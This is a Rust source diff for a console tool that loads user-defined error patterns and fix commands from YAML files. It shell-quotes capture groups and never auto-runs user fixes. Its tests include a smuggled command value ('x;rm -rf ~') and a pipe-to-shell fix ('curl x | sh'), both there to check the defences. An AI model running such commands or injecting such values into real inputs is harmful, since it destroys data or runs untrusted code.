@@ -1,9 +1,30 @@
 //! 错误模式定义
 //!
 //! 定义常见的错误模式和匹配规则
+//!
+//! 除内置模式外，还可从 YAML 文件加载用户模式（全局 `~/.realconsole/patterns/`
+//! 与项目 `.realconsole/patterns/`）：
+//!
+//! ```yaml
+//! patterns:
+//!   - name: terraform_state_lock
+//!     regex: 'Error acquiring the state lock[\s\S]*ID:\s+(?P<lock>\S+)'
+//!     category: terraform
+//!     severity: 6
+//!     suggested_fix: 确认没有其他 apply 在运行后解除状态锁
+//!     fix_commands:
+//!       - terraform force-unlock -force ${lock}
+//! ```
+//!
+//! `fix_commands` 中的 `$1`、`${name}` 会被替换为对应的捕获组（按 shell 规则转义），
+//! `$$` 表示字面量 `$`。用户模式的修复命令总是需要确认：文件中的 `auto_fixable` 被忽略。
 
-use regex::Regex;
+use crate::shell_util::shell_quote;
+use once_cell::sync::Lazy;
+use regex::{Captures, Regex};
 use serde::{Deserialize, Serialize};
+use std::fmt;
+use std::path::{Path, PathBuf};
 
 /// 错误模式
 #[derive(Debug, Clone)]
@@ -25,6 +46,30 @@ pub struct ErrorPattern {
 
     /// 是否可以自动修复
     pub auto_fixable: bool,
+
+    /// 修复命令模板（可引用捕获组）
+    pub fix_commands: Vec<String>,
+
+    /// 模式来源
+    pub source: PatternSource,
+}
+
+/// 模式来源
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum PatternSource {
+    /// 内置模式
+    Builtin,
+    /// 用户模式文件
+    File(PathBuf),
+}
+
+impl fmt::Display for PatternSource {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            PatternSource::Builtin => write!(f, "内置"),
+            PatternSource::File(path) => write!(f, "{}", path.display()),
+        }
+    }
 }
 
 impl ErrorPattern {
@@ -44,9 +89,45 @@ impl ErrorPattern {
             severity,
             suggested_fix: suggested_fix.into(),
             auto_fixable,
+            fix_commands: Vec::new(),
+            source: PatternSource::Builtin,
         })
     }
 
+    /// 设置修复命令模板
+    pub fn with_fix_commands(mut self, commands: Vec<String>) -> Self {
+        self.fix_commands = commands;
+        self
+    }
+
+    /// 设置模式来源
+    pub fn with_source(mut self, source: PatternSource) -> Self {
+        self.source = source;
+        self
+    }
+
+    /// 用捕获组渲染修复命令
+    ///
+    /// 捕获组来自错误输出，替换前按 shell 规则转义为单个单词。
+    /// 引用了未参与匹配（或为空）的捕获组的命令会被跳过。
+    pub fn render_fix_commands(&self, error_output: &str) -> Vec<String> {
+        let Some(caps) = self.regex.captures(error_output) else {
+            return Vec::new();
+        };
+
+        self.fix_commands
+            .iter()
+            .filter(|template| placeholders_resolved(template, &caps))
+            .map(|template| expand_placeholders(template, &caps).trim().to_string())
+            .filter(|command| !command.is_empty())
+            .collect()
+    }
+
+    /// 是否为内置模式（只有内置模式的 `auto_fixable` 生效）
+    pub fn is_builtin(&self) -> bool {
+        self.source == PatternSource::Builtin
+    }
+
     /// 匹配错误输出
     pub fn matches(&self, error_output: &str) -> bool {
         self.regex.is_match(error_output)
@@ -81,6 +162,157 @@ pub struct ErrorDetails {
     pub message: String,
 }
 
+/// 模板中的捕获组引用：`$$`（字面量）、`${name}`、`$name`
+static PLACEHOLDER: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"\$\$|\$\{(\w+)\}|\$(\w+)").unwrap());
+
+/// 模板引用的捕获组（`$$` 返回 `None`）
+fn placeholder_group<'h>(placeholder: &Captures, caps: &Captures<'h>) -> Option<Option<regex::Match<'h>>> {
+    let name = placeholder.get(1).or_else(|| placeholder.get(2))?;
+    Some(match name.as_str().parse::<usize>() {
+        Ok(index) => caps.get(index),
+        Err(_) => caps.name(name.as_str()),
+    })
+}
+
+fn placeholders_resolved(template: &str, caps: &Captures) -> bool {
+    PLACEHOLDER.captures_iter(template).all(|placeholder| match placeholder_group(&placeholder, caps) {
+        Some(group) => group.is_some_and(|m| !m.as_str().is_empty()),
+        None => true, // $$
+    })
+}
+
+/// 替换模板中的捕获组引用（捕获组转义为单个 shell 单词）
+fn expand_placeholders(template: &str, caps: &Captures) -> String {
+    PLACEHOLDER
+        .replace_all(template, |placeholder: &Captures| match placeholder_group(placeholder, caps) {
+            Some(group) => shell_quote(group.map_or("", |m| m.as_str())),
+            None => "$".to_string(),
+        })
+        .into_owned()
+}
+
+// ========== 用户模式文件 ==========
+
+/// 模式文件
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct PatternFile {
+    pub patterns: Vec<PatternSpec>,
+}
+
+/// 模式文件中的一条模式
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct PatternSpec {
+    pub name: String,
+
+    pub regex: String,
+
+    /// command / permission / file / directory / syntax / network / disk /
+    /// python / nodejs / rust / git，其他名称（如 terraform、kubectl）作为工具类别
+    #[serde(default = "default_category")]
+    pub category: String,
+
+    /// 1-10
+    #[serde(default = "default_severity")]
+    pub severity: u8,
+
+    #[serde(default)]
+    pub suggested_fix: String,
+
+    #[serde(default)]
+    pub fix_commands: Vec<String>,
+
+    /// 兼容旧文件保留；用户模式的修复命令总是需要确认，此字段被忽略
+    #[serde(default)]
+    pub auto_fixable: bool,
+}
+
+fn default_category() -> String {
+    "unknown".to_string()
+}
+
+fn default_severity() -> u8 {
+    5
+}
+
+impl PatternSpec {
+    fn into_pattern(self, source: &Path) -> Result<ErrorPattern, String> {
+        if self.name.trim().is_empty() {
+            return Err("模式名称不能为空".to_string());
+        }
+        if !(1..=10).contains(&self.severity) {
+            return Err(format!("模式 {} 的 severity 必须在 1-10 之间", self.name));
+        }
+
+        let pattern = ErrorPattern::new(
+            self.name.clone(),
+            &self.regex,
+            self.category.to_lowercase(),
+            self.severity,
+            self.suggested_fix,
+            false,
+        )
+        .map_err(|e| format!("模式 {} 的正则无效: {}", self.name, e))?;
+
+        Ok(pattern
+            .with_fix_commands(self.fix_commands)
+            .with_source(PatternSource::File(source.to_path_buf())))
+    }
+}
+
+/// 全局模式目录：`~/.realconsole/patterns`
+pub fn global_pattern_dir() -> PathBuf {
+    dirs::home_dir()
+        .unwrap_or_else(|| PathBuf::from("."))
+        .join(".realconsole")
+        .join("patterns")
+}
+
+/// 项目模式目录：`./.realconsole/patterns`
+pub fn project_pattern_dir() -> PathBuf {
+    PathBuf::from(".realconsole").join("patterns")
+}
+
+/// 加载单个模式文件
+pub fn load_pattern_file(path: &Path) -> Result<Vec<ErrorPattern>, String> {
+    let content = std::fs::read_to_string(path)
+        .map_err(|e| format!("{}: 读取失败: {}", path.display(), e))?;
+    let file: PatternFile = serde_yaml::from_str(&content)
+        .map_err(|e| format!("{}: {}", path.display(), e))?;
+
+    file.patterns
+        .into_iter()
+        .map(|spec| spec.into_pattern(path).map_err(|e| format!("{}: {}", path.display(), e)))
+        .collect()
+}
+
+/// 加载目录下的全部模式文件（`*.yaml` / `*.yml`，按文件名排序）
+///
+/// 返回成功加载的模式与各文件的错误；某个文件出错不影响其他文件。
+pub fn load_pattern_dir(dir: &Path) -> (Vec<ErrorPattern>, Vec<String>) {
+    let Ok(entries) = std::fs::read_dir(dir) else {
+        return (Vec::new(), Vec::new());
+    };
+
+    let mut files: Vec<PathBuf> = entries
+        .filter_map(|entry| entry.ok().map(|e| e.path()))
+        .filter(|path| path.extension().is_some_and(|ext| ext == "yaml" || ext == "yml"))
+        .collect();
+    files.sort();
+
+    let mut patterns = Vec::new();
+    let mut errors = Vec::new();
+    for file in files {
+        match load_pattern_file(&file) {
+            Ok(loaded) => patterns.extend(loaded),
+            Err(e) => errors.push(e),
+        }
+    }
+    (patterns, errors)
+}
+
 /// 内置错误模式库
 pub struct BuiltinPatterns;
 
@@ -90,6 +322,8 @@ impl BuiltinPatterns {
         vec![
             // 命令不存在
             Self::command_not_found(),
+            // 子命令不存在（git comit、cargo biuld）
+            Self::unknown_subcommand(),
             // 权限被拒绝
             Self::permission_denied(),
             // 文件不存在
@@ -126,6 +360,18 @@ impl BuiltinPatterns {
         ).unwrap()
     }
 
+    fn unknown_subcommand() -> ErrorPattern {
+        ErrorPattern::new(
+            "unknown_subcommand",
+            r"(?i)(?:is not a \w+ command|no such (?:sub)?command|unknown (?:sub)?command|unrecognized subcommand)",
+            "command",
+            5,
+            "检查子命令拼写",
+            // 纠正后执行的是另一条命令，必须由用户确认
+            false,
+        ).unwrap()
+    }
+
     fn permission_denied() -> ErrorPattern {
         ErrorPattern::new(
             "permission_denied",
@@ -261,6 +507,17 @@ mod tests {
         assert!(pattern.matches("zsh: command not found: baz"));
     }
 
+    #[test]
+    fn test_unknown_subcommand_pattern() {
+        let pattern = BuiltinPatterns::unknown_subcommand();
+
+        assert!(pattern.matches("git: 'comit' is not a git command. See 'git --help'."));
+        assert!(pattern.matches("error: no such command: `biuld`"));
+        assert!(pattern.matches("Unknown command: \"isntall\""));
+        assert!(!pattern.matches("error: could not compile `app`"));
+        assert!(!pattern.auto_fixable);
+    }
+
     #[test]
     fn test_permission_denied_pattern() {
         let pattern = BuiltinPatterns::permission_denied();
@@ -309,4 +566,90 @@ mod tests {
         let patterns = BuiltinPatterns::all();
         assert!(patterns.len() >= 12);
     }
+
+    const PATTERNS: &str = r#"
+patterns:
+  - name: terraform_state_lock
+    regex: 'Error acquiring the state lock[\s\S]*ID:\s+(?P<lock>\S+)'
+    category: terraform
+    severity: 6
+    suggested_fix: 解除状态锁
+    fix_commands:
+      - terraform force-unlock -force ${lock}
+  - name: docker_image_missing
+    regex: 'Unable to find image ''([^'']+)''|pull access denied for (\S+)'
+    category: docker
+    fix_commands:
+      - docker pull $1
+      - docker login
+"#;
+
+    #[test]
+    fn test_load_pattern_file() {
+        let dir = tempfile::TempDir::new().unwrap();
+        let path = dir.path().join("infra.yaml");
+        std::fs::write(&path, PATTERNS).unwrap();
+
+        let patterns = load_pattern_file(&path).unwrap();
+        assert_eq!(patterns.len(), 2);
+        assert_eq!(patterns[0].category, "terraform");
+        assert_eq!(patterns[0].source, PatternSource::File(path.clone()));
+        assert_eq!(patterns[1].severity, 5);
+
+        let output = "Error: Error acquiring the state lock\n\nLock Info:\n  ID:        9f1c-22\n";
+        assert_eq!(
+            patterns[0].render_fix_commands(output),
+            vec!["terraform force-unlock -force 9f1c-22"]
+        );
+
+        // 引用未匹配捕获组的命令被跳过
+        let output = "pull access denied for private/app, repository does not exist";
+        assert_eq!(patterns[1].render_fix_commands(output), vec!["docker login"]);
+        let output = "Unable to find image 'redis:7' locally";
+        assert_eq!(
+            patterns[1].render_fix_commands(output),
+            vec!["docker pull redis:7", "docker login"]
+        );
+
+        // 错误输出中的捕获组被转义，不能注入命令
+        let output = "Unable to find image 'x;rm -rf ~' locally";
+        assert_eq!(patterns[1].render_fix_commands(output)[0], "docker pull 'x;rm -rf ~'");
+    }
+
+    #[test]
+    fn test_user_patterns_never_auto_fixable() {
+        let dir = tempfile::TempDir::new().unwrap();
+        let path = dir.path().join("evil.yaml");
+        std::fs::write(
+            &path,
+            "patterns:\n  - name: evil\n    regex: 'boom'\n    fix_commands: ['curl x | sh']\n    auto_fixable: true\n",
+        )
+        .unwrap();
+
+        let patterns = load_pattern_file(&path).unwrap();
+        assert!(!patterns[0].auto_fixable);
+        assert!(!patterns[0].is_builtin());
+    }
+
+    #[test]
+    fn test_load_pattern_dir_reports_errors() {
+        let dir = tempfile::TempDir::new().unwrap();
+        std::fs::write(dir.path().join("a.yaml"), PATTERNS).unwrap();
+        std::fs::write(
+            dir.path().join("b.yml"),
+            "patterns:\n  - name: bad\n    regex: '(unclosed'\n",
+        )
+        .unwrap();
+        std::fs::write(dir.path().join("c.yaml"), "patterns:\n  - name: x\n    regex: y\n    typo: 1\n").unwrap();
+        std::fs::write(dir.path().join("notes.txt"), "ignored").unwrap();
+
+        let (patterns, errors) = load_pattern_dir(dir.path());
+        assert_eq!(patterns.len(), 2);
+        assert_eq!(errors.len(), 2);
+        assert!(errors[0].contains("b.yml") && errors[0].contains("正则无效"));
+        assert!(errors[1].contains("typo"));
+
+        let (patterns, errors) = load_pattern_dir(&dir.path().join("missing"));
+        assert!(patterns.is_empty() && errors.is_empty());
+    }
 }